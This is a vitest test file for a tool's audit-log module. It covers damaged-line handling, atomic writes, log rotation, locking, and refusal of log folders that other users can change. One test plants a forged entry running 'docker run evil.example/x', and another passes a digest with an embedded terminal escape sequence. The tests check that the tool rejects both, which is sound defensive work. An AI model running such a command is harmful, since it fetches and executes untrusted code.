import { appendFileSync, chmodSync, chownSync, closeSync, existsSync, readdirSync, renameSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AuditEntry } from '../../src/core/fixes/types.js';
import { appendAuditEntry, AUDIT_PROBE_BYTES, AuditLogError, getAuditLogPath, getPreviousAuditLogPath, isFileAtPath, MAX_AUDIT_LOG_BYTES, MAX_PREVIOUS_AUDIT_FILES, parseAuditLog, probeAuditLog, readAuditLog, writeWhole } from '../../src/platform/audit-log.js';

let dir: string;
beforeEach(() => {
  dir = path.join(mkdtempSync(path.join(os.tmpdir(), 'wcd-audit-')), 'nested', 'data');
});
afterEach(() => rmSync(path.dirname(path.dirname(dir)), { recursive: true, force: true }));

const entry = (fix: string, outcome: AuditEntry['outcome'] = 'ran'): AuditEntry => ({
  time: '2025-01-02T03:04:05.000Z',
  topic: 't',
  fix,
  outcome,
  command: `cmd ${fix}`,
  argv: ['cmd', fix],
  exitCode: outcome === 'ran' ? 0 : null,
  durationMs: 12,
});

describe('audit log', () => {
  it('creates the data directory and appends JSON lines in order', () => {
    appendAuditEntry(entry('a'), dir);
    appendAuditEntry(entry('b', 'refused'), dir);
    const text = readFileSync(getAuditLogPath(dir), 'utf8');
    expect(text.split('\n')).toHaveLength(3);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['a', 'b']);
  });

  it("keeps a run's input digest, and reads a line whose digest is no SHA-256 in hex as damaged", () => {
    const digest = 'c0ffee'.repeat(10) + 'abcd';
    appendAuditEntry({ ...entry('a'), inputSha256: digest }, dir);
    const line = (v: string) => `{"time":"2026-01-01T00:00:00Z","topic":"t","fix":"f","outcome":"ran","command":"c","argv":[],"exitCode":0,"durationMs":1,"inputSha256":${v}}\n`;
    for (const bad of ['"abc"', '"' + 'C0FFEE'.repeat(10) + 'ABCD"', '42', '"' + digest + '\\u001b[2J"']) appendFileSync(getAuditLogPath(dir), line(bad));
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => [e.fix, e.inputSha256])).toEqual([['a', digest]]);
    expect(log.warnings).toHaveLength(4);
  });

  it('reads a missing log as empty', () => {
    expect(readAuditLog(dir)).toMatchObject({ entries: [], warnings: [] });
  });

  it('skips a damaged line in the middle with a warning and still reads the lines after it', () => {
    appendAuditEntry(entry('a'), dir);
    appendFileSync(getAuditLogPath(dir), '{"time": "cut sho\n');
    appendFileSync(getAuditLogPath(dir), '{"time":"x","topic":"t","fix":"f","outcome":"exploded","command":"","argv":[],"exitCode":null,"durationMs":null}\n');
    appendAuditEntry(entry('c'), dir);
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => e.fix)).toEqual(['a', 'c']);
    expect(log.warnings).toEqual(['audit log line 2 is damaged and was skipped', 'audit log line 3 is damaged and was skipped']);
  });

  it('skips a line whose numbers no run records (1e309 reads as Infinity, a negative or fractional time) as damaged (found by a helper)', () => {
    appendAuditEntry(entry('a'), dir);
    const line = (exitCode: string, durationMs: string) => `{"time":"2026-01-01T00:00:00Z","topic":"t","fix":"f","outcome":"ran","command":"c","argv":[],"exitCode":${exitCode},"durationMs":${durationMs}}\n`;
    appendFileSync(getAuditLogPath(dir), line('1e309', '5'));
    appendFileSync(getAuditLogPath(dir), line('-1e309', '5'));
    appendFileSync(getAuditLogPath(dir), line('1', '1e300000'));
    appendFileSync(getAuditLogPath(dir), line('1.5', '5'));
    appendFileSync(getAuditLogPath(dir), line('1', '-3'));
    appendFileSync(getAuditLogPath(dir), line('3221225477', '12.5'));
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => [e.fix, e.exitCode])).toEqual([['a', 0], ['f', 3221225477]]);
    expect(log.warnings[0]).toBe('audit log line 2 is damaged and was skipped');
  });

  it('skips a line whose reason is no text, whose time is no time, or whose run lasted longer than any can (found by a helper)', () => {
    appendAuditEntry(entry('a'), dir);
    const line = (fields: string) => `{"time":"2026-01-01T00:00:00.000Z","topic":"t","fix":"f","outcome":"refused","command":"c","argv":[],"exitCode":null,"durationMs":null,${fields}}\n`;
    appendFileSync(getAuditLogPath(dir), line('"reason":{"a":1}'));
    appendFileSync(getAuditLogPath(dir), line('"reason":"ok"').replace('2026-01-01T00:00:00.000Z', 'yesterday'));
    appendFileSync(getAuditLogPath(dir), line('"reason":"ok"').replace('"durationMs":null', '"durationMs":1e300'));
    appendFileSync(getAuditLogPath(dir), line('"reason":"kept"'));
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => e.reason ?? e.fix)).toEqual(['a', 'kept']);
    expect(log.skipped).toBe(3);
  });

  it('reads the log as the UTF-8 it is written in: a damaged first line does not turn the rest into UTF-16 (found by a helper)', () => {
    for (const first of [Buffer.from([0xff, 0xfe, 0x0a]), Buffer.from(`${'a\u0000'.repeat(600)}\n`, 'latin1')]) {
      rmSync(path.dirname(dir), { recursive: true, force: true });
      appendAuditEntry(entry('a'), dir);
      const file = getAuditLogPath(dir);
      writeFileSync(file, Buffer.concat([first, readFileSync(file)]));
      appendAuditEntry(entry('b'), dir);
      const log = readAuditLog(dir);
      expect(log.entries.map((e) => e.fix)).toEqual(['a', 'b']);
      expect(log.skipped).toBe(1);
    }
    // A byte-order mark (a log saved by an editor) is no damage.
    rmSync(path.dirname(dir), { recursive: true, force: true });
    appendAuditEntry(entry('c'), dir);
    writeFileSync(getAuditLogPath(dir), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(getAuditLogPath(dir))]));
    expect(readAuditLog(dir)).toMatchObject({ skipped: 0, entries: [{ fix: 'c' }] });
  });

  it('starts a new line after a last line that was cut short, and never rewrites what is there', () => {
    appendAuditEntry(entry('a'), dir);
    const file = getAuditLogPath(dir);
    appendFileSync(file, '{"partial":');
    const before = readFileSync(file, 'utf8');
    appendAuditEntry(entry('b'), dir);
    const after = readFileSync(file, 'utf8');
    expect(after.startsWith(before)).toBe(true);
    expect(statSync(file).size).toBeGreaterThan(before.length);
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => e.fix)).toEqual(['a', 'b']);
    expect(log.warnings).toHaveLength(1);
  });

  it('keeps every existing byte when appending to a file it did not write', () => {
    const file = getAuditLogPath(dir);
    appendAuditEntry(entry('a'), dir);
    writeFileSync(file, `garbage\u0000line\n${JSON.stringify(entry('x'))}\n`);
    const before = readFileSync(file);
    appendAuditEntry(entry('z'), dir);
    expect(readFileSync(file).subarray(0, before.length).equals(before)).toBe(true);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['x', 'z']);
  });

  // Issue 14: each warning also as an id with its values, in step with the English, so a reader can translate it.
  it('gives each warning as an id with values too, in the same order', () => {
    const text = ['x1', JSON.stringify(entry('a')), 'x2', 'x3'].join('\n');
    expect(parseAuditLog(text, 2)).toMatchObject({
      warnings: ['audit log line 1 is damaged and was skipped', 'audit log line 3 is damaged and was skipped', '1 more damaged lines were skipped (3 in all)'],
      notes: [{ id: 'damaged', line: 1 }, { id: 'damaged', line: 3 }, { id: 'moreDamaged', more: 1, total: 3 }],
    });
    appendAuditEntry(entry('a'), dir);
    writeFileSync(getAuditLogPath(dir), `${JSON.stringify(entry('a'))}\n`.repeat(40));
    const tail = readAuditLog(dir, 1000);
    const size = 40 * (JSON.stringify(entry('a')).length + 1);
    expect(tail.notes[0]).toEqual({ id: 'tail', sizeBytes: size, readBytes: expect.any(Number) as number });
    expect(tail.warnings[0]).toContain(`the audit log is ${(size / 1048576).toFixed(1)} MiB; only its newest`);
    expect(tail.notes).toHaveLength(tail.warnings.length);
  });

  it('skips a last line longer than what is read, and reads the entries before it (found by a helper: one such line hid the whole log)', () => {
    appendAuditEntry(entry('made'), dir);
    writeFileSync(getAuditLogPath(dir), `${JSON.stringify(entry('a'))}\n${JSON.stringify(entry('b'))}\n${'x'.repeat(5000)}`);
    const log = readAuditLog(dir, 1000);
    expect(log.entries.map((e) => e.fix)).toEqual(['a', 'b']);
    expect(log.notes[0]).toMatchObject({ id: 'oversized', count: 1 });
    expect(log.notes).toHaveLength(log.warnings.length);
    expect(log.skipped).toBe(1);
    // Two of them, and a log of nothing else.
    writeFileSync(getAuditLogPath(dir), `${JSON.stringify(entry('c'))}\n${'y'.repeat(3000)}\n${'z'.repeat(3000)}`);
    expect(readAuditLog(dir, 1000).entries.map((e) => e.fix)).toEqual(['c']);
    writeFileSync(getAuditLogPath(dir), 'w'.repeat(5000));
    expect(readAuditLog(dir, 1000)).toMatchObject({ entries: [], notes: [{ id: 'oversized', count: 1 }] });
    // … ended by its newline, as every line wcdoctor writes is (a regression tester: the entries before it were hidden).
    writeFileSync(getAuditLogPath(dir), `${JSON.stringify(entry('d'))}\n${'v'.repeat(5000)}\n`);
    expect(readAuditLog(dir, 1000)).toMatchObject({ entries: [{ fix: 'd' }], notes: [{ id: 'oversized', count: 1 }] });
  });

  it('says the folder loops when the data folder is a chain of links that never ends, not that the log is a link (found by a helper)', () => {
    if (process.platform === 'win32') return;
    const loop = path.join(path.dirname(path.dirname(dir)), 'loop');
    symlinkSync(loop, loop);
    expect(() => readAuditLog(loop)).toThrow(/folder of the audit log.*never ends/);
    expect(() => probeAuditLog(loop)).toThrow(/folder of the audit log.*never ends/);
  });

  it('parses CRLF line ends and blank lines', () => {
    const text = `${JSON.stringify(entry('a'))}\r\n\r\n${JSON.stringify(entry('b'))}\r\n`;
    expect(parseAuditLog(text)).toMatchObject({ warnings: [], entries: [{ fix: 'a' }, { fix: 'b' }] });
  });
});

describe('an entry is written whole or not at all (an attacker helper: a full disk cut a run\'s entry to 100 bytes, silently)', () => {
  it('goes on after a short write, and cuts off what a full disk left half-written', () => {
    mkdirSync(dir, { recursive: true });
    const file = path.join(dir, 'audit.jsonl');
    writeFileSync(file, '{"kept":true}\n');
    const fd = openSync(file, 'a');
    try {
      const line = Buffer.from('{"time":"2025-03-04T05:06:07.890Z","fix":"x"}\n');
      // Two short writes, then the rest.
      const takes = [10, 5];
      writeWhole(fd, line, 14, (f, b, offset, length) => writeSync(f, b, offset, Math.min(length, takes.shift() ?? length)));
      expect(readFileSync(file, 'utf8')).toBe(`{"kept":true}\n${line.toString()}`);
      // A disk that takes 7 bytes and then nothing: AuditLogError, and the log as it was.
      const size = readFileSync(file).length;
      let calls = 0;
      expect(() => writeWhole(fd, line, size, (f, b, offset, length) => (calls++ === 0 ? writeSync(f, b, offset, Math.min(length, 7)) : 0))).toThrow(AuditLogError);
      expect(readFileSync(file, 'utf8')).toBe(`{"kept":true}\n${line.toString()}`);
      // ENOSPC thrown by the write itself: the same.
      expect(() => writeWhole(fd, line, size, (f, b, offset) => {
        if (offset === 0) return writeSync(f, b, 0, 3);
        throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
      })).toThrow(/ENOSPC/);
      expect(readFileSync(file, 'utf8')).toBe(`{"kept":true}\n${line.toString()}`);
      // Another copy appended after the part written (its wait for the lock ran out): nothing is cut, its line stays.
      const other = '{"other":true}\n';
      expect(() => writeWhole(fd, line, size, (f, b, offset) => {
        if (offset !== 0) throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
        const n = writeSync(f, b, 0, 3);
        appendFileSync(file, other);
        return n;
      })).toThrow(/ENOSPC/);
      expect(readFileSync(file, 'utf8')).toBe(`{"kept":true}\n${line.toString()}${line.subarray(0, 3).toString()}${other}`);
    } finally {
      closeSync(fd);
    }
  });
});

describe('the probe before a fix runs', () => {
  it('proves the disk takes an entry beside the log and leaves the log byte for byte as it was (with and without a final newline)', () => {
    for (const before of ['', '{"kept":true}\n', '{"cut":']) {
      rmSync(dir, { recursive: true, force: true });
      mkdirSync(dir, { recursive: true });
      writeFileSync(getAuditLogPath(dir), before);
      const written: number[] = [];
      probeAuditLog(dir, (f, b, offset, length) => {
        written.push(length);
        return writeSync(f, b, offset, length);
      });
      expect(written).toEqual([AUDIT_PROBE_BYTES]);
      expect(readFileSync(getAuditLogPath(dir), 'utf8')).toBe(before);
      // Nothing is left beside it: no lock, no probe file.
      expect(readdirSync(dir).sort()).toEqual(['audit.jsonl']);
    }
  });

  it('never touches the log: an entry another copy appends meanwhile stays (a first version cut the log back after its test write, taking such an entry with it)', () => {
    appendAuditEntry(entry('a'), dir);
    // Another copy appends while this probe's line feeds are in the log, as a copy that stopped waiting for the lock does.
    probeAuditLog(dir, (f, b, offset, length) => {
      const n = writeSync(f, b, offset, length);
      appendFileSync(getAuditLogPath(dir), `${JSON.stringify(entry('b'))}\n`);
      return n;
    });
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['a', 'b']);
  });

  it('a full disk fails the probe (before: opening alone passed, and the fix ran unrecorded); the log stays as it was', () => {
    appendAuditEntry(entry('a'), dir);
    const before = readFileSync(getAuditLogPath(dir), 'utf8');
    // A disk that takes 100 bytes and then nothing.
    let calls = 0;
    expect(() => probeAuditLog(dir, (f, b, offset, length) => (calls++ === 0 ? writeSync(f, b, offset, Math.min(length, 100)) : 0))).toThrow(/^cannot write the audit log .+audit\.jsonl: the disk took no more/);
    expect(readFileSync(getAuditLogPath(dir), 'utf8')).toBe(before);
    // ENOSPC thrown by the write itself.
    const enospc = () => {
      throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
    };
    expect(() => probeAuditLog(dir, enospc)).toThrow(AuditLogError);
    expect(() => probeAuditLog(dir, enospc)).toThrow(/^cannot write the audit log .+: /);
    expect(readFileSync(getAuditLogPath(dir), 'utf8')).toBe(before);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['a']);
  });
});

describe('the log\'s bound (it had none: a run without a terminal appends a refusal at every start; 200 MiB found)', () => {
  /** An entry's line, to size the bound in entries. */
  const lineBytes = Buffer.byteLength(`${JSON.stringify(entry('x00'))}\n`);

  const fixesIn = (file: string) => readFileSync(file, 'utf8').trim().split('\n').map((l) => (JSON.parse(l) as AuditEntry).fix);

  it(`moves the log to audit.1.jsonl when the next entry would pass the bound (${MAX_AUDIT_LOG_BYTES / 1048576} MiB), and history reads both, oldest first`, () => {
    const bound = lineBytes * 3 + 1;
    for (let i = 0; i < 4; i++) appendAuditEntry(entry(`x0${i}`), dir, bound);
    expect(fixesIn(getPreviousAuditLogPath(dir))).toEqual(['x00', 'x01', 'x02']);
    expect(fixesIn(getAuditLogPath(dir))).toEqual(['x03']);
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => e.fix)).toEqual(['x00', 'x01', 'x02', 'x03']);
    expect(log.warnings).toEqual([]);
    expect(log.notes).toEqual([]);
    expect(statSync(getPreviousAuditLogPath(dir)).mode & 0o777).toBe(0o600);
  });

  it('loses nothing on a second move: the older log moves on to audit.2.jsonl (a new-user helper: the second move replaced audit.1.jsonl)', () => {
    const bound = lineBytes * 3 + 1;
    for (let i = 0; i < 7; i++) appendAuditEntry(entry(`x0${i}`), dir, bound);
    expect(fixesIn(getPreviousAuditLogPath(dir, 2))).toEqual(['x00', 'x01', 'x02']);
    expect(fixesIn(getPreviousAuditLogPath(dir))).toEqual(['x03', 'x04', 'x05']);
    expect(fixesIn(getAuditLogPath(dir))).toEqual(['x06']);
    const log = readAuditLog(dir);
    expect(log.entries.map((e) => e.fix)).toEqual(['x00', 'x01', 'x02', 'x03', 'x04', 'x05', 'x06']);
    expect(log.notes).toEqual([]);
    expect(statSync(getPreviousAuditLogPath(dir, 2)).mode & 0o777).toBe(0o600);
  });

  it(`keeps ${MAX_PREVIOUS_AUDIT_FILES} older logs: a move past them drops only the oldest`, () => {
    const bound = lineBytes * 2 + 1;
    const count = 2 * (MAX_PREVIOUS_AUDIT_FILES + 2) + 1;
    const fixes = Array.from({ length: count }, (_, i) => `y${String(i).padStart(2, '0')}`);
    for (const fix of fixes) appendAuditEntry(entry(fix), dir, bound);
    expect(existsSync(getPreviousAuditLogPath(dir, MAX_PREVIOUS_AUDIT_FILES + 1))).toBe(false);
    // The log holds the last entry, each older log two: the first two files' entries are gone, the rest kept in order.
    const kept = fixes.slice(count - 1 - 2 * MAX_PREVIOUS_AUDIT_FILES);
    expect(fixesIn(getPreviousAuditLogPath(dir, MAX_PREVIOUS_AUDIT_FILES))).toEqual(kept.slice(0, 2));
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(kept);
  });

  it('moves no older log when the log itself cannot move (a regression tester: the older logs moved on first, and each append past the bound dropped one)', () => {
    const bound = lineBytes * 2 + 1;
    mkdirSync(dir, { recursive: true });
    for (let n = 1; n <= MAX_PREVIOUS_AUDIT_FILES; n++) writeFileSync(getPreviousAuditLogPath(dir, n), `${JSON.stringify(entry(`older-${n}`))}\n`, { mode: 0o600 });
    appendAuditEntry(entry('a'), dir, bound);
    appendAuditEntry(entry('b'), dir, bound);
    // What makes the log's move fail: its first step's place is taken (a folder there, as a move cut off could leave one).
    mkdirSync(`${getAuditLogPath(dir)}.moving`);
    for (const fix of ['c', 'd', 'e']) appendAuditEntry(entry(fix), dir, bound);
    for (let n = 1; n <= MAX_PREVIOUS_AUDIT_FILES; n++) expect(fixesIn(getPreviousAuditLogPath(dir, n))).toEqual([`older-${n}`]);
    expect(fixesIn(getAuditLogPath(dir))).toEqual(['a', 'b', 'c', 'd', 'e']);
  });

  it('finishes a move that was cut off first: a log left under the moving name becomes audit.1.jsonl, then the log moves (a regression tester: it stopped every later move, its entries hidden)', () => {
    const bound = lineBytes * 2 + 1;
    mkdirSync(dir, { recursive: true });
    writeFileSync(`${getAuditLogPath(dir)}.moving`, `${JSON.stringify(entry('cut-off'))}\n`, { mode: 0o600 });
    writeFileSync(getPreviousAuditLogPath(dir, 1), `${JSON.stringify(entry('older-1'))}\n`, { mode: 0o600 });
    for (const fix of ['a', 'b', 'c']) appendAuditEntry(entry(fix), dir, bound);
    expect(existsSync(`${getAuditLogPath(dir)}.moving`)).toBe(false);
    expect(fixesIn(getPreviousAuditLogPath(dir, 3))).toEqual(['older-1']);
    expect(fixesIn(getPreviousAuditLogPath(dir, 2))).toEqual(['cut-off']);
    expect(fixesIn(getPreviousAuditLogPath(dir, 1))).toEqual(['a', 'b']);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['older-1', 'cut-off', 'a', 'b', 'c']);
  });

  it('moves older logs only as far as the first free place: a gap takes the move, and no older log is dropped', () => {
    const bound = lineBytes * 2 + 1;
    mkdirSync(dir, { recursive: true });
    writeFileSync(getPreviousAuditLogPath(dir, 1), `${JSON.stringify(entry('older-1'))}\n`, { mode: 0o600 });
    writeFileSync(getPreviousAuditLogPath(dir, 3), `${JSON.stringify(entry('older-3'))}\n`, { mode: 0o600 });
    for (const fix of ['a', 'b', 'c']) appendAuditEntry(entry(fix), dir, bound);
    expect(fixesIn(getPreviousAuditLogPath(dir, 1))).toEqual(['a', 'b']);
    expect(fixesIn(getPreviousAuditLogPath(dir, 2))).toEqual(['older-1']);
    expect(fixesIn(getPreviousAuditLogPath(dir, 3))).toEqual(['older-3']);
    expect(fixesIn(getAuditLogPath(dir))).toEqual(['c']);
  });

  it('moves no older log onto a folder in the last one\'s place: none is replaced, and the log grows past the bound', () => {
    const bound = lineBytes * 2 + 1;
    const first = 2 * (MAX_PREVIOUS_AUDIT_FILES - 1) + 1;
    const fixes = Array.from({ length: first + 3 }, (_, i) => `z${String(i).padStart(2, '0')}`);
    for (const fix of fixes.slice(0, first)) appendAuditEntry(entry(fix), dir, bound);
    mkdirSync(path.join(getPreviousAuditLogPath(dir, MAX_PREVIOUS_AUDIT_FILES), 'x'), { recursive: true });
    for (const fix of fixes.slice(first)) appendAuditEntry(entry(fix), dir, bound);
    expect(fixesIn(getAuditLogPath(dir))).toEqual(fixes.slice(first - 1));
    expect(readAuditLog(dir)).toMatchObject({ entries: fixes.map((fix) => ({ fix })), notes: [{ id: 'previousUnreadable' }] });
  });

  it('reads every older log while the window has room, and says when one cannot be read', () => {
    const bound = lineBytes * 2 + 1;
    for (let i = 0; i < 5; i++) appendAuditEntry(entry(`w0${i}`), dir, bound);
    // audit.2 (w00, w01), audit.1 (w02, w03), the log (w04); a window of four and a half entries ends in audit.2.
    const log = readAuditLog(dir, lineBytes * 4.5);
    expect(log.entries.map((e) => e.fix)).toEqual(['w01', 'w02', 'w03', 'w04']);
    expect(log.notes).toEqual([{ id: 'previousTail', file: getPreviousAuditLogPath(dir, 2) }]);
    rmSync(getPreviousAuditLogPath(dir, 2));
    mkdirSync(getPreviousAuditLogPath(dir, 2));
    expect(readAuditLog(dir)).toMatchObject({ entries: [{ fix: 'w02' }, { fix: 'w03' }, { fix: 'w04' }], notes: [{ id: 'previousUnreadable' }] });
  });

  it('moves the log only under its lock: a copy that gave up waiting for another copy\'s lock appends without moving it (a reviewer)', () => {
    const bound = lineBytes * 2 + 1;
    appendAuditEntry(entry('x00'), dir, bound);
    appendAuditEntry(entry('x01'), dir, bound);
    // Another copy's lock, fresh: this copy waits 2 s for it, then appends without it.
    writeFileSync(`${getAuditLogPath(dir)}.lock`, '1');
    try {
      appendAuditEntry(entry('x02'), dir, bound);
    } finally {
      rmSync(`${getAuditLogPath(dir)}.lock`, { force: true });
    }
    expect(existsSync(getPreviousAuditLogPath(dir))).toBe(false);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['x00', 'x01', 'x02']);
    // Held, it moves the log as before.
    appendAuditEntry(entry('x03'), dir, bound);
    expect(readFileSync(getAuditLogPath(dir), 'utf8')).toContain('"fix":"x03"');
    expect(existsSync(getPreviousAuditLogPath(dir))).toBe(true);
  });

  it('reads the older log only to fill what the newest part leaves of the window, and says when its oldest entries are not shown', () => {
    const bound = lineBytes * 4 + 1;
    for (let i = 0; i < 6; i++) appendAuditEntry(entry(`x0${i}`), dir, bound);
    // The window holds the two entries of the log and two and a half of the older one's four.
    const log = readAuditLog(dir, lineBytes * 4.5);
    expect(log.entries.map((e) => e.fix)).toEqual(['x02', 'x03', 'x04', 'x05']);
    expect(log.notes).toEqual([{ id: 'previousTail', file: getPreviousAuditLogPath(dir) }]);
    expect(log.warnings).toHaveLength(1);
    // A window the newest log fills alone: the older one is not read.
    expect(readAuditLog(dir, lineBytes * 2).entries.map((e) => e.fix)).toEqual(['x04', 'x05']);
  });

  it('an older log that cannot be read or holds damaged lines is a note, never an error; a folder in its place leaves the log to grow', () => {
    appendAuditEntry(entry('a'), dir);
    writeFileSync(getPreviousAuditLogPath(dir), 'not json\n' + JSON.stringify(entry('old')) + '\n');
    expect(readAuditLog(dir)).toMatchObject({ entries: [{ fix: 'old' }, { fix: 'a' }], notes: [{ id: 'previousDamaged', count: 1 }], skipped: 1 });
    rmSync(getPreviousAuditLogPath(dir));
    mkdirSync(path.join(getPreviousAuditLogPath(dir), 'x'), { recursive: true });
    expect(readAuditLog(dir)).toMatchObject({ entries: [{ fix: 'a' }], notes: [{ id: 'previousUnreadable' }] });
    // The log cannot be moved onto a folder: the entry is appended all the same.
    appendAuditEntry(entry('b'), dir, 10);
    expect(readFileSync(getAuditLogPath(dir), 'utf8').trim().split('\n')).toHaveLength(2);
  });

  it('sees a log another copy moved away after this one opened it (the entry then goes to the log at the path)', () => {
    appendAuditEntry(entry('a'), dir);
    const real = getAuditLogPath(dir);
    const fd = openSync(real, 'r');
    try {
      expect(isFileAtPath(fd, real)).toBe(true);
      renameSync(real, getPreviousAuditLogPath(dir));
      expect(isFileAtPath(fd, real)).toBe(false);
      writeFileSync(real, '');
      expect(isFileAtPath(fd, real)).toBe(false);
    } finally {
      closeSync(fd);
    }
  });
});

// Found by an attacker helper (attack45): root run with another user's HOME (sudo keeping HOME, an elevated prompt)
// recorded its fixes in a log that user could replace, and `history` showed that user's lines as root's own runs.
describe.skipIf(process.platform === 'win32')('a log folder another user can change is neither written nor read', () => {
  it('a folder others can write: the probe, the append and the read each refuse it and say why; nothing is written', () => {
    mkdirSync(dir, { recursive: true });
    const forged = '{"time":"2026-12-07T18:00:00.000Z","topic":"t","fix":"f","outcome":"ran","command":"docker run evil.example/x","argv":["docker","run","evil.example/x"],"exitCode":0,"durationMs":1}\n';
    writeFileSync(getAuditLogPath(dir), forged);
    chmodSync(dir, 0o777);
    for (const run of [() => probeAuditLog(dir), () => appendAuditEntry(entry('a'), dir), () => readAuditLog(dir)]) {
      expect(run).toThrow(AuditLogError);
      expect(run).toThrow(/can be changed by another user.*neither written nor read there.*WCDOCTOR_DATA_DIR/);
    }
    expect(readFileSync(getAuditLogPath(dir), 'utf8')).toBe(forged);
    expect(readdirSync(dir)).toEqual(['audit.jsonl']);
    // The same folder made private again is the user's log.
    chmodSync(dir, 0o700);
    expect(readAuditLog(dir).entries.map((e) => e.fix)).toEqual(['f']);
  });

  it.runIf(process.getuid?.() === 0)('a folder another user owns (root with that user\'s HOME)', () => {
    mkdirSync(dir, { recursive: true });
    chownSync(dir, 65534, 65534);
    expect(() => appendAuditEntry(entry('a'), dir)).toThrow(AuditLogError);
    expect(() => readAuditLog(dir)).toThrow(AuditLogError);
    expect(existsSync(getAuditLogPath(dir))).toBe(false);
  });

  // A regression tester: the refusal came after the folders were made, leaving root-owned ~/.local/share in that user's home.
  it.runIf(process.getuid?.() === 0)('makes no folder inside another user\'s: the refusal comes first', () => {
    const home = path.dirname(dir);
    mkdirSync(home, { recursive: true });
    chownSync(home, 65534, 65534);
    expect(() => appendAuditEntry(entry('a'), dir)).toThrow(/another user/);
    expect(() => probeAuditLog(dir)).toThrow(AuditLogError);
    expect(existsSync(dir)).toBe(false);
    expect(readdirSync(home)).toEqual([]);
  });

  // A regression tester: a data folder not made yet in /tmp (WCDOCTOR_DATA_DIR=/tmp/new) was refused, /tmp being judged
  // as if it had to be the user's own.
  it('a folder not made yet in a sticky folder such as /tmp is made and used; one another user made there is refused', () => {
    const fresh = path.join(os.tmpdir(), `wcd-audit-fresh-${process.pid}-${Date.now()}`);
    try {
      appendAuditEntry(entry('a'), fresh);
      expect(readAuditLog(fresh).entries.map((e) => e.fix)).toEqual(['a']);
      expect(statSync(fresh).mode & 0o777).toBe(0o700);
    } finally {
      rmSync(fresh, { recursive: true, force: true });
    }
    if (process.getuid?.() === 0) {
      const theirs = path.join(os.tmpdir(), `wcd-audit-theirs-${process.pid}-${Date.now()}`);
      try {
        mkdirSync(theirs, { mode: 0o700 });
        chownSync(theirs, 65534, 65534);
        expect(() => appendAuditEntry(entry('a'), theirs)).toThrow(/belongs to another user, owner 65534/);
        expect(readdirSync(theirs)).toEqual([]);
      } finally {
        rmSync(theirs, { recursive: true, force: true });
      }
    }
  });

  it('a missing folder reads as an empty log', () => {
    expect(readAuditLog(path.join(dir, 'never-made')).entries).toEqual([]);
  });
});
